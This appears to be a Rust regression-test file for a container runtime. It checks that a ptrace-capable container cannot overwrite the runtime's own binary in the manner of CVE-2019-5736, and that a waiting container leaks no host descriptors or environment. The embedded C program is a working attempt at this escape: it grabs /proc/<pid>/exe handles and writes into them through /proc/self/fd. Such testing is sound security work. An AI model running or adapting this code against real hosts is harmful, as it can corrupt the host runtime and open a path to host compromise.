//! The escape corpus: what a container that may trace gets of the runner while that is seen inside, on its way to be
//! something else: its file, its descriptors, its environment.

use std::path::Path;

use coracle_tests::oci::Client;
use coracle_tests::rootfs::compile;
use coracle_tests::{Privilege, Store, need};
use serde_json::{Value, json};

/// Keeps every executable that it sees and that is none of its own, and tries to write into each until told to stop.
const STEAL: &str = r#"
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <sys/vfs.h>
#include <unistd.h>
static struct stat kept[256];
static int fds[256], n;
int main(void) {
    stat("/proc/self/exe", &kept[0]), stat("/bin/busybox", &kept[1]), n = 2;
    setlinebuf(stdout), puts("ready");
    for (int round = 0; round < 60000 && access("/tmp/stop", F_OK); round++) {
        for (int pid = 1; pid < 1000; pid++) {
            char path[64];
            struct stat now;
            int known = 0;
            sprintf(path, "/proc/%d/exe", pid);
            int fd = open(path, O_PATH);
            if (fd < 0) continue;
            fstat(fd, &now);
            for (int k = 0; k < n; k++) known |= now.st_ino == kept[k].st_ino && now.st_dev == kept[k].st_dev;
            if (known || n == 256) { close(fd); continue; }
            struct statfs on;
            fstatfs(fd, &on);
            /* Our own init is small. What runs is not written anyway, by most kernels: that is no defence. */
            if (now.st_size > 500000) puts(on.f_flags & 1 || on.f_type == 0x01021994 ? "seen" : "seen, exposed");
            kept[n] = now, fds[n++] = fd;
        }
        for (int k = 2; k < n; k++) {
            char path[64];
            sprintf(path, "/proc/self/fd/%d", fds[k]);
            int fd = open(path, O_WRONLY);
            /* What is there already. */
            if (fd >= 0 && pwrite(fd, "\177", 1, 0) == 1) puts("written");
            if (fd >= 0) close(fd);
        }
    }
    puts("tried");
    return 0;
}
"#;

/// Which may trace, and read and write what root may.
fn tracer() -> Value {
    let caps = ["CAP_SYS_PTRACE", "CAP_DAC_OVERRIDE", "CAP_DAC_READ_SEARCH", "CAP_KILL"];
    json!({"bounding": caps, "effective": caps, "permitted": caps})
}

fn thief(namespace: Option<&str>) -> Option<Client> {
    let pid = namespace.map_or(json!({"type": "pid"}), |path| json!({"type": "pid", "path": path}));
    let client = Client::of(
        |bundle| {
            compile(STEAL, &bundle.rootfs("bin/steal")).expect("a C compiler");
            let bundle = bundle.set("/process/args", json!(["steal"]));
            bundle.set("/process/capabilities", tracer()).set("/linux/namespaces/0", pid)
        },
        "",
    )?;
    Some(client)
}

/// The first that it saw is the runner; what came later may be another container's own program.
#[track_caller]
fn assert_kept(out: &str) {
    let first = out.lines().find(|line| line.starts_with("seen"));
    assert!(first == Some("seen") && !out.contains("written"), "{out}");
}

/// Nobody runs the runner any more: now or never.
fn assert_not_written(thief: &Client, stop: &Path) {
    std::thread::sleep(std::time::Duration::from_millis(300));
    std::fs::write(stop, "").expect("tell it to stop");
    thief.wait_until("it has tried", || thief.read("out").ends_with("tried\n"));
    assert_kept(&thief.read("out"));
}

// CVE-2019-5736, the way of `exec`, where the container may trace: O_PATH now, O_WRONLY when the runner has ended.
#[test]
fn the_file_of_a_runner_that_joins_cannot_be_written_later() {
    if !need(Privilege::Root) || !need(Privilege::Peer("cc")) {
        return;
    }
    let Some(thief) = thief(None) else { return };
    thief.create(&[]);
    thief.call("start").ok();
    thief.wait_until("it looks", || thief.read("out").contains("ready"));
    for n in 0.. {
        thief.call("exec").arg("true").ok();
        if thief.read("out").contains("seen") {
            break;
        }
        assert!(n < 800, "it is not quick enough to see one: {}", thief.read("out"));
    }
    assert_not_written(&thief, &thief.bundle.rootfs("tmp/stop"));
}

// The same, of a created container that waits, and that another one shares its pid namespace with.
#[test]
fn the_file_of_a_runner_that_waits_for_a_start_cannot_be_written_later() {
    if !need(Privilege::Root) || !need(Privilege::Peer("cc")) {
        return;
    }
    let Some(waiting) = Client::new("exec sleep 1000") else { return };
    waiting.create(&[]);
    let pid = waiting.call("state").ok().json()["pid"].clone();
    let Some(thief) = thief(Some(&format!("/proc/{pid}/ns/pid"))) else { return };
    thief.create(&[]);
    thief.call("start").ok();
    thief.wait_until("it is seen", || thief.read("out").contains("seen"));
    waiting.call("start").ok();
    assert_not_written(&thief, &thief.bundle.rootfs("tmp/stop"));
}

// The same, of a container of an image.
#[test]
fn the_file_of_a_runner_that_joins_an_images_container_cannot_be_written_later() {
    if !need(Privilege::Root) || !need(Privilege::Peer("cc")) {
        return;
    }
    let store = Store::new("steal");
    let image = coracle_tests::rootfs::Image::busybox().expect("busybox").plain(&store, "image");
    compile(STEAL, &image.rootfs().join("bin/steal")).expect("a C compiler");
    let thief = store.run("--name steal --cap-add SYS_PTRACE --rootfs image steal").spawn();
    thief.wait_for("ready");
    for n in 0.. {
        store.runner().words("exec steal true").ok();
        if thief.stdout_so_far().contains("seen") {
            break;
        }
        assert!(n < 800, "it is not quick enough to see one: {}", thief.stdout_so_far());
    }
    std::thread::sleep(std::time::Duration::from_millis(300));
    store.runner().words("exec steal touch /tmp/stop").ok();
    thief.wait_for("tried");
    assert_kept(&thief.stdout_so_far());
}

// What waits for its start waits inside, where another container that shares its pid namespace may look into it.
#[test]
fn a_container_that_waits_holds_nothing_of_the_host_and_shows_no_variable_of_its_caller() {
    let Some(client) = Client::new("exec sleep 1000") else { return };
    let status = client.creating(&[]).env("CORACLE_CANARY", "sings").status().expect("run create");
    assert!(status.success(), "{}", client.read("err"));
    let pid = client.call("state").ok().json()["pid"].clone();
    let mut open = Vec::new();
    for entry in std::fs::read_dir(format!("/proc/{pid}/fd")).expect("its descriptors").flatten() {
        let link = std::fs::read_link(entry.path()).expect("a descriptor");
        let number: u32 = entry.file_name().to_string_lossy().parse().expect("a number");
        if number > 2 {
            open.push(link.to_string_lossy().into_owned());
        }
    }
    let expected = |link: &String| link.starts_with("socket:") || link.starts_with("/memfd:init");
    assert!(open.len() == 3 && open.iter().all(expected), "{open:?}");
    let environ = std::fs::read(format!("/proc/{pid}/environ")).expect("its environment");
    assert!(!String::from_utf8_lossy(&environ).contains("CORACLE_CANARY"));
    client.call("start").ok();
    client.wait_until("it runs", || client.status() == "running");
}
